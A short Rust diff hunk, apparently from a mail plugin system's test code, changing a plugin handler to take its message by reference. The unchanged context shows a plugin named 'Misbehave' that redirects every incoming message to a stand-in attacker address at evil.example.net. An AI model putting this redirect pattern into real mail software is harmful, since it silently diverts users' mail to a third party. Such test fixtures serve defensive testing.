@@ -14,7 +14,7 @@ impl Plugin for Misbehave {
         }
     }
 
-    fn on_message(_msg: Message) -> Result<Vec<Action>, String> {
+    fn on_message(_msg: &Message) -> Result<Vec<Action>, String> {
         Ok(vec![Action::Forward(Forward {
             to: vec!["attacker@evil.example.net".into()],
             mode: ForwardMode::Redirect,
